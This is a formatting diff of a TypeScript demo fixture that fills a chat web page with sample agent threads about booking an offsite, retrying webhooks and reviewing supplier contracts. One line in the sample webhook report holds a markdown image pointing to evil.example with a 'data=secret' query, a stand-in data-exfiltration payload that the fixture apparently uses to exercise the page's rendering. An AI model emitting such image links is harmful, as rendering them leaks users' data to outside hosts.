@@ -30,7 +30,8 @@ const city = { step: 3, question: 'Which city?', text: 'Lisbon', author: ana }
  * in Chinese, paused, a report with a table and code, failed. Nothing works on them; what one writes stays waiting.
  */
 export async function playDemo(store: Store): Promise<void> {
-  const stage = (thread: string) => createStage(store, { workspace: 'web:local', channel: 'web', thread })
+  const stage = (thread: string) =>
+    createStage(store, { workspace: 'web:local', channel: 'web', thread })
   await running(stage('running'))
   await asking(stage('asking'))
   await report(stage('report'))
@@ -42,7 +43,10 @@ export async function playDemo(store: Store): Promise<void> {
 async function running(stage: Stage): Promise<void> {
   const { hear, begin, move, ask, answer, runId } = stage
   const at = now - 4 * minute
-  await hear('Compare the three venues and book a date for the offsite', ana, at, { kind: 'started', runId })
+  await hear('Compare the three venues and book a date for the offsite', ana, at, {
+    kind: 'started',
+    runId,
+  })
   await begin('Compare the three venues and book a date for the offsite', ana, at)
   await move(
     at + 2_000,
@@ -50,17 +54,38 @@ async function running(stage: Stage): Promise<void> {
     'running',
     null,
     { kind: 'status', status: 'running', reason: null },
-    { kind: 'model_call', contract: 'plan', ok: true, problem: null, ms: 812, promptTokens: 640, completionTokens: 92 },
+    {
+      kind: 'model_call',
+      contract: 'plan',
+      ok: true,
+      problem: null,
+      ms: 812,
+      promptTokens: 640,
+      completionTokens: 92,
+    },
     { kind: 'planned', items: venue },
   )
-  const question = await ask('Which city should the offsite be in?', ['Lisbon', 'Porto', 'Madrid'], ana, at + 20_000)
+  const question = await ask(
+    'Which city should the offsite be in?',
+    ['Lisbon', 'Porto', 'Madrid'],
+    ana,
+    at + 20_000,
+  )
   await answer(question, 'Lisbon', ana, at + 60_000)
-  await hear('Please keep it under 4,000 euros in total', ben, at + 70_000, { kind: 'joined', runId })
+  await hear('Please keep it under 4,000 euros in total', ben, at + 70_000, {
+    kind: 'joined',
+    runId,
+  })
   await move(
     at + 80_000,
     {
       ...plan(
-        [...venue, 'Hold the best date in Lisbon for a week', 'Send the invitation with travel times', 'Tell the team'],
+        [
+          ...venue,
+          'Hold the best date in Lisbon for a week',
+          'Send the invitation with travel times',
+          'Tell the team',
+        ],
         2,
       ),
       lastChange: {
@@ -68,7 +93,11 @@ async function running(stage: Stage): Promise<void> {
         dropped: ['Book the venue in Porto'],
         because: city,
       },
-      intent: { step: 7, tool: 'internet_search', input: 'LX Factory event space availability June' },
+      intent: {
+        step: 7,
+        tool: 'internet_search',
+        input: 'LX Factory event space availability June',
+      },
     },
     'running',
     null,
@@ -100,7 +129,11 @@ async function asking(stage: Stage): Promise<void> {
     at + 3_000,
     {
       ...plan(
-        ['List what the designer needs to know', 'Draft the week, day by day', 'Add what to prepare as to-dos'],
+        [
+          'List what the designer needs to know',
+          'Draft the week, day by day',
+          'Add what to prepare as to-dos',
+        ],
         1,
       ),
       awaitingClarification: true,
@@ -118,10 +151,15 @@ async function asking(stage: Stage): Promise<void> {
 async function report(stage: Stage): Promise<void> {
   const { hear, begin, move, say, runId } = stage
   const at = now - 26 * 60 * minute
-  await hear('What is a good way to retry a failed webhook? Show me code and compare the options.', ana, at, {
-    kind: 'started',
-    runId,
-  })
+  await hear(
+    'What is a good way to retry a failed webhook? Show me code and compare the options.',
+    ana,
+    at,
+    {
+      kind: 'started',
+      runId,
+    },
+  )
   await begin('How to retry a failed webhook', ana, at)
   await move(
     at + 40_000,
@@ -156,7 +194,9 @@ export async function deliver(event: WebhookEvent, attempt = 0): Promise<void> {
 
 See https://example.com/webhooks and ![a diagram](https://evil.example/p.png?data=secret).`,
   )
-  await hear('Great, thank you! Can you also say what a *dead letter* is?', ana, at + 90_000, { kind: 'answered' })
+  await hear('Great, thank you! Can you also say what a *dead letter* is?', ana, at + 90_000, {
+    kind: 'answered',
+  })
   await say(
     'A **dead letter** is a message that could not be delivered after all tries. It is put aside, so that somebody can look at it and send it again.',
     at + 95_000,
@@ -166,11 +206,22 @@ See https://example.com/webhooks and ![a diagram](https://evil.example/p.png?dat
 async function pausing(stage: Stage): Promise<void> {
   const { hear, begin, move, runId } = stage
   const at = now - 3 * 60 * minute
-  await hear('Check all 40 supplier contracts for a notice period', ben, at, { kind: 'started', runId })
+  await hear('Check all 40 supplier contracts for a notice period', ben, at, {
+    kind: 'started',
+    runId,
+  })
   await begin('Check all 40 supplier contracts for a notice period', ben, at)
   await move(
     at + 60_000,
-    plan(['List the contracts', 'Read contracts 1 to 20', 'Read contracts 21 to 40', 'Write the summary'], 2),
+    plan(
+      [
+        'List the contracts',
+        'Read contracts 1 to 20',
+        'Read contracts 21 to 40',
+        'Write the summary',
+      ],
+      2,
+    ),
     'paused',
     `Paused: Check all 40 supplier contracts for a notice period
 
@@ -225,7 +276,10 @@ async function chinese(stage: Stage): Promise<void> {
 // `node test/fakes/demo.ts [port] [empty]` serves the page with these threads, or with none, for looking at it.
 if (import.meta.main) {
   const redis = await startRedis(redisServer ?? 'redis-server')
-  const web = await startWeb(redis.connect(), { clock: createSystemClock(), port: Number(process.argv[2] ?? 3999) })
+  const web = await startWeb(redis.connect(), {
+    clock: createSystemClock(),
+    port: Number(process.argv[2] ?? 3999),
+  })
   if (process.argv[3] !== 'empty') await playDemo(web.store)
   console.log(web.url)
 }
